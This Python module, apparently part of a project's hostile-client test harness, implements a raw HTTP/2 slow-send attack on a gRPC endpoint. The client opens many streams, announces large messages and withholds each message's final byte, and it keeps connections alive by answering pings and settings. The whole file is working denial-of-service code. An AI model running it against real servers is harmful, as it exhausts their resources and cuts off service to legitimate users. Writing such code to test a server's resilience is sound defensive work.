"""An anonymous host that begins many messages and ends none: raw HTTP/2, because gRPC's own clients are polite.

Each connection opens more streams than the server may allow, announces a message on each of them, and sends all of it
but the last byte, as fast as windows and its own bound let it. It answers the pings and settings that would end the
connection. What the server refuses is opened again, at a bounded rate: a flood of refusals is not what this is about.
"""

from __future__ import annotations

import asyncio
import contextlib
import struct
from collections import Counter
from collections.abc import Callable

from faults.proxy import split
from hostile import frames

CHALLENGE = "/fedplat.wire.v1.Fleet/GetChallenge"
SIZES = (8 * 2**20 - 1, 2**20, 100_000)
"""What messages announce, in turns: as much as is ever accepted, and less than tighter limits."""
PIECE = 16_384
REOPENED = 5
"""Streams that are opened with each piece of data once each connection had all of its streams open."""
ACK, END_STREAM = 1, 1


class Connection:
    """One connection; `left` has the bytes that each open stream still has to send, all but one."""

    def __init__(self, answers: Counter[str], num_streams: int) -> None:
        self._answers = answers
        self._num_streams = num_streams
        self._next = 1
        self._window, self._initial = 65_535, 65_535
        self._windows: dict[int, int] = {}
        self.left: dict[int, int] = {}
        self.num_opened = 0

    def open(self) -> bytes:
        """The headers of one more stream, and the prefix of its message."""
        stream, self._next = self._next, self._next + 2
        size = SIZES[self.num_opened % len(SIZES)]
        self.num_opened += 1
        self.left[stream] = size - 1
        self._windows[stream] = self._initial - 5
        self._window -= 5
        fields = {
            ":method": b"POST",
            ":scheme": b"http",
            ":path": CHALLENGE.encode(),
            ":authority": b"server",
            "te": b"trailers",
            "content-type": b"application/grpc",
        }
        prefix = frames.message(b"", length=size)
        return frames.frame(frames.HEADERS, 4, stream, frames.hpack(fields)) + frames.frame(
            frames.DATA, 0, stream, prefix
        )

    def more(self, limit: int) -> bytes:
        """As many streams as are wanted, and then data of those that may send, `limit` bytes at most."""
        out = bytearray()
        most = self.num_opened + REOPENED if self.num_opened >= self._num_streams else self._num_streams
        while len(self.left) < self._num_streams and self._window > 5 and len(out) < limit and self.num_opened < most:
            out += self.open()
        for stream, left in self.left.items():
            size = min(PIECE, left, self._windows[stream], self._window, limit - len(out))
            if size > 0:
                out += frames.frame(frames.DATA, 0, stream, bytes(size))
                self.left[stream] -= size
                self._windows[stream] -= size
                self._window -= size
        return bytes(out)

    def take(self, kind: int, flags: int, stream: int, payload: bytes) -> bytes:
        """What to answer to a frame of the server."""
        match kind:
            case frames.SETTINGS if not flags & ACK:
                self._settle(payload)
                return frames.frame(frames.SETTINGS, ACK, 0, b"")
            case frames.PING if not flags & ACK:
                return frames.frame(frames.PING, ACK, 0, payload)
            case frames.WINDOW_UPDATE:
                self._widen(stream, int.from_bytes(payload, "big"))
            case frames.RST_STREAM:
                self._end(stream, f"reset {int.from_bytes(payload, 'big')}")
            case frames.HEADERS if flags & END_STREAM:
                self._end(stream, "answered")
            case _:
                pass
        return b""

    def _settle(self, payload: bytes) -> None:
        for start in range(0, len(payload) - 5, 6):
            name, number = struct.unpack(">HI", payload[start : start + 6])
            if name == 4:  # SETTINGS_INITIAL_WINDOW_SIZE
                for stream in self._windows:
                    self._windows[stream] += number - self._initial
                self._initial = number

    def _widen(self, stream: int, size: int) -> None:
        if stream == 0:
            self._window += size
        elif stream in self._windows:
            self._windows[stream] += size

    def _end(self, stream: int, answer: str) -> None:
        if self.left.pop(stream, None) is not None:
            del self._windows[stream]
            self._answers[answer] += 1


async def attack(
    address: str, answers: Counter[str], num_streams: int, bytes_per_s: float, goes_on: Callable[[], bool]
) -> None:
    """Attacks over one connection at a time until it is over; connects again when the server closes."""
    while goes_on():
        connection = Connection(answers, num_streams)
        try:
            reader, writer = await asyncio.open_connection(*split(address))
        except OSError:
            answers["not connected"] += 1
            await asyncio.sleep(1.0)
            continue
        listening = asyncio.ensure_future(_listen(connection, reader, writer))
        try:
            writer.write(frames.PREFACE + frames.frame(frames.SETTINGS, 0, 0, b""))
            while goes_on() and not listening.done():
                writer.write(connection.more(int(bytes_per_s / 10)))
                await writer.drain()
                await asyncio.sleep(0.1)
        except OSError:
            pass
        if listening.done():
            answers["connection closed"] += 1
            await asyncio.sleep(1.0)
        answers["half sent"] += len(connection.left)
        listening.cancel()
        writer.close()
        with contextlib.suppress(OSError, asyncio.CancelledError):
            await listening


async def _listen(connection: Connection, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Reads the server's frames until it closes."""
    with contextlib.suppress(asyncio.IncompleteReadError, OSError):
        while True:
            head = await reader.readexactly(9)
            stream = int.from_bytes(head[5:9], "big") & 0x7FFFFFFF
            payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
            writer.write(connection.take(head[3], head[4], stream, payload))
